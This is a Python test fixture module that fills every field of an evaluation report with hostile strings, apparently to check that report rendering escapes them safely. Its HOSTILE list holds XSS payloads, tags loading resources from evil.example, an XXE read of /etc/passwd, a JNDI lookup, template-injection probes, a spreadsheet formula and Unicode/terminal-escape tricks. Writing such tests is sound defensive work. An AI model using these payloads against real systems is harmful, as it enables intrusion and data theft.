"""Reports and cases in which every text is hostile."""

from collections.abc import Sequence
from typing import Any

from brainswap.report.model import CheckReport, Cost, Ratio, Recommended, Report, Spend
from brainswap.report.people import Calibration, Confusion, ContenderCalibration
from brainswap.report.views import CaseAnswer, CaseView, StepSaid
from tests.fakes.calibrated_reports import calibration, corrected, nothing
from tests.fakes.cut_short_reports import adjusted
from tests.fakes.reports import change, compared, contender, gate, provenance, report, score, target

HOSTILE: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    '"><img src=x onerror=alert(3)>',
    "' onmouseover='alert(4)",
    '" onfocus="alert(5)" autofocus="',
    "` onclick=`alert(6)",
    "javascript:alert(7)",
    "<a href=javascript:alert(8)>x</a>",
    '<a href="data:text/html,<script>alert(9)</script>">x</a>',
    "<svg/onload=alert(10)>",
    "<svg><script href=data:,alert(11) /></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(12)>",
    "<iframe srcdoc='<script>alert(13)</script>'></iframe>",
    "<object data=javascript:alert(14)></object>",
    "<embed src=https://evil.example/x.swf>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=https://evil.example/>",
    "<form action=https://evil.example/><input name=q></form>",
    "</style><style>body{background:url(https://evil.example/x)}</style>",
    "</title><script>alert(15)</script>",
    "</details></section></main></body></html>",
    "<!-- --><img src=x onerror=alert(16)> -->",
    "--><script>alert(17)</script><!--",
    "]]><script>alert(18)</script><![CDATA[",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;",
    "&lt;script&gt;alert(19)&lt;/script&gt; &amp; &#60;b&#62;",
    "&#x3c;script&#x3e;alert(20)",
    "\u202egnp.exe\u202c right to left",
    "\u2066isolated\u2069 \u200fmarks\u200e",
    "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "nul\x00byte \x08back \x7fdel \x85next \x9bcsi",
    "lone \ud800 surrogate \udfff halves",
    "not characters \ufffe \uffff \ufdd0",
    "tags \U000e0041\U000e0042 hidden",
    "zero\u200bwidth\ufeff soft\u00adhyphen",
    "lines\r\nand\rreturns\u2028and\u2029more",
    "Z\u0351\u0351\u0351\u0351\u0351a\u0352\u0352\u0352l\u0353g\u0353o",
    "${jndi:ldap://evil.example/a} {{7*7}} {% raw %} <%= 1 %>",
    '=HYPERLINK("https://evil.example")',
    "longwordwithoutanybreak" * 40,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 العربية עברית 日本語",
)  # fmt: skip


def hostile(text: str) -> Report:
    """The same text in every field that takes any."""
    name = text or "x"
    bad_gate = gate(name, "fail", -0.5, -0.02, text)
    unasked = gate("every question asked", "inconclusive", 0.5, 0.0, f"the target was not asked: {text}")
    counts = contender().answers.model_copy(update={"unasked": 1})
    attacked: dict[str, Any] = {
        "model": text,
        "prompt_sha256": text,
        "parameters": {text: {text: [text]}},
        "notes": [text],
        "adjustments": [
            adjusted(parameter=text, declared=name, sent=name, reason=text, source=text, loses=text),
        ],
        "scores": {name: score(0.5)},
        "segments": {name: {name: score(0.25)}},
        "cost": Cost(per_1000_requests_usd=1.0, monthly_usd=None, price_source=text, price_date=text),
        "unknown": {"cost.monthly_usd": text, "self_agreement": text, name: text},
    }
    return report(
        run_id=text,
        workload=text,
        description=text,
        recommended=Recommended(contender=text, model=text, prompt=text),
        reasons=[text],
        spend=Spend(usd=1.0, forecast_usd=None, calls=1, cached=0, usd_by_purpose={name: 1.0}),
        contenders=[
            contender(id=f"source {text}", **attacked),
            target(
                text,
                **attacked,
                comparison={name: compared(-0.5, 0.1).model_copy(update={"method": text})},
                ratios={"cost": Ratio(ratio=None, low=None, high=None, detail=text)},
                gates=[bad_gate, unasked],
                answers=counts,
            ),
        ],
        calibration=[hostile_calibration(name, text), nothing().model_copy(update={"scorer": text})],
        changed=[change(case_id=text, contender=text, scorer=text, segment=text, reason=text)],
        provenance=provenance(
            workload_sha256=text,
            cases_sha256=text,
            gates_sha256=text,
            labels_sha256=text,
            splits={name: 1},
            code_version=text,
            prices={name: text},
            judge=text,
            checks=[CheckReport(check=text, status="refused", detail=text)],
            warnings=[text],
        ),
    )


def hostile_crowd(texts: Sequence[str]) -> Report:
    """A report in which each of the texts is everywhere: a target for each, and all of them in every list."""
    reports = [hostile(text) for text in texts]
    first = reports[0]
    provenances = [each.provenance for each in reports]
    return first.model_copy(
        update={
            "contenders": [first.contenders[0], *(each.contenders[1] for each in reports)],
            "reasons": [reason for each in reports for reason in each.reasons],
            "changed": [change for each in reports for change in each.changed],
            "spend": first.spend.model_copy(
                update={
                    "usd_by_purpose": {name: usd for each in reports for name, usd in each.spend.usd_by_purpose.items()}
                }
            ),
            "provenance": first.provenance.model_copy(
                update={
                    "warnings": [warning for each in provenances for warning in each.warnings],
                    "checks": [check for each in provenances for check in each.checks],
                    "prices": {model: price for each in provenances for model, price in each.prices.items()},
                }
            ),
        }
    )


def hostile_calibration(scorer: str, text: str) -> Calibration:
    unsure = ContenderCalibration(
        contender=text,
        cases=1,
        bias=None,
        mean=corrected(0.5).model_copy(update={"method": text}),
        difference=None,
        unknown={"bias": text, "difference": text},
    )
    return calibration(
        scorer=scorer,
        kappa=None,
        confusion=Confusion(levels=[text], counts=[[1]]),
        contenders=[unsure],
        unknown={"kappa": text},
    )


def hostile_case(text: str) -> CaseView:
    answers = tuple(
        CaseAnswer(
            contender=name,
            text=said,
            status=text,
            scores={text: None},
            reasons={text: text},
            before=(StepSaid(step=text, text=said, status=text),),
        )
        for name, said in ((f"source {text}", text), (text, f"{text}!"))
    )
    return CaseView(case_id=text, segment=text, critical=True, input=text, reference=text, answers=answers)
